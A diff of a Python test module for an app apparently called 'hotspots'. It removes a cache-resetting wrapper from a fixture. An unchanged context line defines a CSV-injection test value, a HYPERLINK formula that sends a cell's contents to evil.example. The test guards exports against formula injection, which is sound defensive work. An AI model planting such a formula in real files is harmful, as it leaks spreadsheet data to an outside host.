@@ -24,7 +24,6 @@ from hotspots.areas import Areas, load_areas
 from hotspots.cli import app as cli_app
 from hotspots.config import DATA_DIR, Settings, get_settings
 from tests.api.conftest import CLUSTER, END, Api, api_settings, make_api
-from tests.reliability.test_privacy import fresh_body_caches
 
 #: One hostile value per formula prefix, as OWASP's CSV-injection examples write them.
 HOSTILE_PLACE = '=HYPERLINK("http://evil.example/?x="&A1;"Vivalla centrum")'
@@ -95,10 +94,9 @@ def hostile_files(tmp_path: Path) -> dict[str, Path]:
 def hostile_api(tmp_path: Path, hostile_files: dict[str, Path]) -> Iterator[Api]:
     settings = api_settings(f"sqlite:///{tmp_path / 'store.db'}").model_copy(update=hostile_files)
     areas: Areas = load_areas(settings)
-    with fresh_body_caches():
-        result = make_api(settings, areas)
-        yield result
-        result.engine.dispose()
+    result = make_api(settings, areas)
+    yield result
+    result.engine.dispose()
 
 
 @pytest.mark.parametrize("lang", ["sv", "en"])
